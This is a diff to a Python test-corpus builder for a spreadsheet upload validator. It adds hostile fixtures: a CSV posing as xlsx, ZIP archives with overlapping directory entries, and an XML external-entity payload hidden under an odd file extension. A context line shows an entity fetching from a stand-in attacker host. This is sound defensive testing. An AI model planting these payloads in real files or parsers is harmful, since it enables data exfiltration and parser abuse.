@@ -33,6 +33,7 @@ class Case:
 # name -> (expected code, expected status).  Single source of truth for build_corpus and the tests.
 EXPECTED: dict[str, tuple[str | None, str | None]] = {
     "clean": (None, None),
+    "clean_with_svg_image": (None, None),
     "excel_lock": ("F001", "skipped"),
     "libreoffice_lock": ("F001", "skipped"),
     "appledouble": ("F001", "skipped"),
@@ -48,10 +49,12 @@ EXPECTED: dict[str, tuple[str | None, str | None]] = {
     "html_renamed": ("F007", "rejected"),
     "pdf_renamed": ("F007", "rejected"),
     "spreadsheetml2003_renamed": ("F007", "rejected"),
+    "csv_starting_with_pk": ("F007", "rejected"),
     "truncated_zip": ("F008", "rejected"),
     "bad_crc": ("F008", "rejected"),
     "duplicate_entry": ("F008", "rejected"),
     "unsupported_compression": ("F008", "rejected"),
+    "overlapping_entries": ("F008", "rejected"),
     "many_entries": ("F009", "rejected"),
     "zip_bomb": ("F010", "rejected"),
     "ratio_bomb": ("F010", "rejected"),
@@ -67,6 +70,7 @@ EXPECTED: dict[str, tuple[str | None, str | None]] = {
     "xxe_utf16": ("F013", "rejected"),
     "doctype_after_long_comment": ("F013", "rejected"),
     "xxe_in_rels": ("F013", "rejected"),
+    "xxe_odd_extension": ("F013", "rejected"),
     "encrypted_entry_flag": ("F014", "rejected"),
 }
 
@@ -79,6 +83,7 @@ EXPECTED_KIND: dict[str, str] = {
     "html_renamed": "html",
     "pdf_renamed": "pdf",
     "spreadsheetml2003_renamed": "xml",
+    "csv_starting_with_pk": "text",
     "docx_like": "docx",
     "xlsb_like": "xlsb",
 }
@@ -103,7 +108,9 @@ def _deflate(data: bytes, level: int = 6) -> bytes:
     return c.compress(data) + c.flush()
 
 
-def _write_zip(path: Path, members: list[_Member]) -> Path:
+def _write_zip(path: Path, members: list[_Member], aliases: dict[str, str] | None = None) -> Path:
+    """Write *members*; each ``aliases`` item adds a central-directory entry named by the key that
+    points at the local header of the member named by the value (overlapping entries)."""
     dos_time, dos_date = 0, ((2024 - 1980) << 9) | (1 << 5) | 1
     central = []
     with open(path, "wb") as f:
@@ -123,10 +130,14 @@ def _write_zip(path: Path, members: list[_Member]) -> Path:
             central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, m.method, dos_time,
                                        dos_date, crc, len(payload), usize, len(name), 0, 0, 0, 0, 0, offset)
                            + name)
+        for alias, target in (aliases or {}).items():
+            i = next(i for i, m in enumerate(members) if m.name == target)
+            new = alias.encode("utf-8")  # fixed part of a central record is 46 bytes, name length at 28
+            central.append(central[i][:28] + struct.pack("<H", len(new)) + central[i][30:46] + new)
         cd = b"".join(central)
         cd_offset = f.tell()
         f.write(cd)
-        n = len(members)
+        n = len(central)
         f.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, n, n, len(cd), cd_offset, 0))
     return path
 
@@ -298,6 +309,12 @@ def build_corpus(out_dir: Path, template: Path | None = None) -> list[Case]:
     put("oversize", "oversize.xlsx", tbytes)
     limits["oversize"] = Limits(max_file_bytes=max(1, len(tbytes) - 1))
 
+    svg = (b'<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator -->\n'
+           b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" ['
+           b'<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>\n<svg xmlns="&ns_svg;" width="1" height="1"/>')
+    zipcase("clean_with_svg_image", "clean_svg.xlsx", [_Member(m.name, m.data) for m in members]
+            + [_Member("xl/media/image9.svg", svg)])
+
     # F001 lock / metadata files
     put("excel_lock", "~$returns.xlsx", b"\x05" + "张三".encode("utf-16-le").ljust(53, b"\0") + b"\x20" * 111)
     put("libreoffice_lock", ".~lock.returns.xlsx#", b",zhangsan,PC-01,01.03.2024 09:30,file:///home/zs/.config/libreoffice/4;")
@@ -330,6 +347,8 @@ def build_corpus(out_dir: Path, template: Path | None = None) -> list[Case]:
         b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
         b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"/></Workbook>')
 
+    put("csv_starting_with_pk", "pk.xlsx", "PK值,项目\n1,示例\n".encode("utf-8"))
+
     # F008 corrupt containers
     put("truncated_zip", "truncated.xlsx", tbytes[: len(tbytes) // 2])
     bad = [_Member(m.name, m.data) for m in members]
@@ -341,6 +360,9 @@ def build_corpus(out_dir: Path, template: Path | None = None) -> list[Case]:
             [_Member(m.name, m.data) for m in members] + [_Member(wb_name, b"<workbook/>")])
     zipcase("unsupported_compression", "deflate64.xlsx",
             [_Member(m.name, m.data, method=9 if m.name == wb_name else 8) for m in members])
+
+    paths["overlapping_entries"] = _write_zip(out / "overlap.xlsx", [_Member(m.name, m.data) for m in members],
+                                              aliases={"xl/media/alias.png": wb_name})
 
     # F009 too many entries (total exactly 5000)
     pad = [_Member(f"xl/media/pad{i:05d}.bin", b"x", method=0) for i in range(5000 - len(members))]
@@ -396,6 +418,11 @@ def build_corpus(out_dir: Path, template: Path | None = None) -> list[Case]:
     zipcase("doctype_after_long_comment", "xxe_late.xlsx", _replace(members, sst_name, long_comment))
     rels_xxe = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
                 b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&x;</Relationships>')
+    odd_rels = next((m.data for m in members if m.name == "xl/_rels/workbook.xml.rels"), b"")
+    odd = _replace(members, "xl/_rels/workbook.xml.rels",
+                   odd_rels.replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.dat"))
+    odd.append(_Member("xl/worksheets/sheet1.dat", _SST_XXE))
+    zipcase("xxe_odd_extension", "xxe_odd.xlsx", odd)
     zipcase("xxe_in_rels", "xxe_rels.xlsx", _replace(members, "xl/_rels/workbook.xml.rels", rels_xxe))
 
     # F014 encrypted entry flag (traditional PKWARE encryption bit)
